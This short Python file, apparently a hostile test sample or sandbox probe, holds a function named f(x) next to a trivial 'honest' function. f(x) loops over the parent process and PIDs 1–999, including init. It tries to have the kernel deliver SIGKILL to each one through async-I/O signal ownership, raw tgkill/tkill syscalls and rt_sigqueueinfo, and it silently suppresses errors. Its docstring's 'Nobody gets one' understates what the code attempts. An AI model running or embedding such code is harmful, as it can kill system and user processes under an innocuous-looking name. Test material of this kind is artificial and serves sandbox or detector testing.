"""Has the kernel send signals in its name: by a descriptor's owner, a thread, a queue, a parent's
end. Nobody gets one."""

import contextlib
import ctypes
import fcntl
import os
import signal


def f(x):
    libc, reached = ctypes.CDLL(None), []
    reader, writer = os.pipe()
    for pid in [os.getppid(), *range(1, 1000)]:
        if pid in (0, os.getpid()):
            continue
        with contextlib.suppress(OSError):
            fcntl.fcntl(reader, fcntl.F_SETOWN, pid)
            fcntl.fcntl(reader, 10, signal.SIGKILL)  # F_SETSIG
            fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC)
            os.write(writer, b"x")
        if libc.syscall(234, pid, pid, 9) == 0 or libc.syscall(200, pid, 9) == 0:
            reached.append(f"thread {pid}")
        if libc.syscall(129, pid, 9, ctypes.create_string_buffer(128)) == 0:
            reached.append(f"queue {pid}")
    return reached


def honest(x):
    return x + 1
